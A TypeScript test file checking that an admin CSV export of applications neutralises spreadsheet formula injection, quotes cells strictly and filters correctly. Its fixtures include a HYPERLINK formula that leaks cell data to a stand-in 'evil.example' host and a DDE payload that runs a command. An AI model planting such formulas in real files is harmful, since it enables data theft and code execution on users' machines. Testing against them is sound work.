import { afterAll, beforeAll, expect, test } from 'vitest'
import { type TestAcademy, testAcademy } from '../../../../test/academy.ts'
import { anApplicationIn } from '../../../../test/applications.ts'
import { openSession, sessionCookie } from '../../../../test/sessions.ts'

let academy: TestAcademy
beforeAll(async () => {
  academy = await testAcademy({ now: new Date('2026-11-21T03:00:00Z') })
})
afterAll(() => academy.close())

async function download(query = '') {
  const { reviewer } = academy.people
  await openSession(academy.db, reviewer)
  const response = await fetch(`${academy.url}/api/admin/applications.csv${query}`, {
    headers: { cookie: sessionCookie(reviewer) },
  })
  const bytes = new Uint8Array(await response.arrayBuffer())
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)
  return { response, bytes, text }
}

const rowsOf = async (query?: string) => parsed((await download(query)).text.slice(1))

test('hostile cells come out as they went in, as text', async () => {
  const { reference } = await anApplicationIn(academy.db, {
    first_name: '=HYPERLINK("http://evil.example?x="&A1,"Prize")',
    last_name: "@SUM(1+1)*cmd|' /C calc'!A0",
    phone: '+1 905 555 0142',
    email: '-2+3@mail.example',
    guardian: 'Zoë, “the aunt”\nÅngström',
    experience: 'One "quoted", two\r\n=1+1',
    goals: ' \t=1+1',
    courses: ['Violin', 'Music Business & Artiste Management (Online)'],
    created_at: new Date('2026-11-20T12:00:00Z'),
  })
  const { response, bytes, text } = await download()
  expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
  expect(response.headers.get('content-disposition')).toBe(
    'attachment; filename="applications-2026-11-20.csv"',
  )
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [head, row] = parsed(text.slice(1))
  expect(Object.fromEntries((head ?? []).map((name, at) => [name, row?.[at]]))).toEqual({
    Applied: '2026-11-20',
    Status: 'pending',
    'First name': '\'=HYPERLINK("http://evil.example?x="&A1,"Prize")',
    'Last name': "'@SUM(1+1)*cmd|' /C calc'!A0",
    Email: "'-2+3@mail.example",
    Phone: '+1 905 555 0142',
    Country: 'Canada',
    'Birth date': '1991-04-12',
    Courses: 'Violin; Music Business & Artiste Management (Online); Piano',
    'English fluent': 'Yes',
    'Has computer': 'Yes',
    Guardian: 'Zoë, “the aunt”\nÅngström',
    Experience: 'One "quoted", two\r\n=1+1',
    Goals: "' \t=1+1",
    'Student ID': '',
    Reference: reference,
    Changed: '',
    Withdrawn: '',
  })
})

test('it holds what is filtered', async () => {
  await anApplicationIn(academy.db, { first_name: 'Only', last_name: 'Öne', status: 'rejected' })
  expect(await rowsOf('?status=rejected&search=one&course=Violin')).toHaveLength(2)
  expect(await rowsOf('?status=rejected&search=two')).toHaveLength(1)
  expect((await download('?status=lost')).response.status).toBe(400)
})

test('more than two chunks are in it, each once and the newest first, though moments are shared', async () => {
  await academy.database.pool.query(`
    insert into admission_applications (first_name, last_name, email, phone, birthdate, country,
      courses, english_fluent, has_computer, status, created_at)
    select 'N', n::text, n || '@many.example', '1', '1990-01-01', 'Canada', '{Violin,Piano}', true,
      true, 'reviewed', timestamptz '2025-01-01' + (n / 7) * interval '1.000001 second'
    from generate_series(1, 1200) n`)
  const [, ...rows] = await rowsOf('?status=reviewed')
  const numbers = rows.map((row) => Number(row[3]))
  expect(numbers).toHaveLength(1_200)
  expect(new Set(numbers).size).toBe(1_200)
  const moments = numbers.map((n) => Math.floor(n / 7))
  expect(moments).toEqual(moments.toSorted((a, b) => b - a))
})

/** A strict parser of RFC 4180: anything else in the text fails the test. */
function parsed(text: string) {
  const rows: string[][] = []
  let at = 0
  while (at < text.length) {
    const row: string[] = []
    for (;;) {
      expect(text[at]).toBe('"')
      let cell = ''
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === undefined) throw new Error('A cell has no end')
        if (text[at] === '"') at += 1
        cell += text[at]
      }
      row.push(cell)
      at += 1
      if (text[at] !== ',') break
      at += 1
    }
    if (text.slice(at, at + 2) !== '\r\n') throw new Error(`No line ends at ${at}`)
    at += 2
    rows.push(row)
  }
  expect(new Set(rows.map(({ length }) => length)).size).toBe(1)
  return rows
}
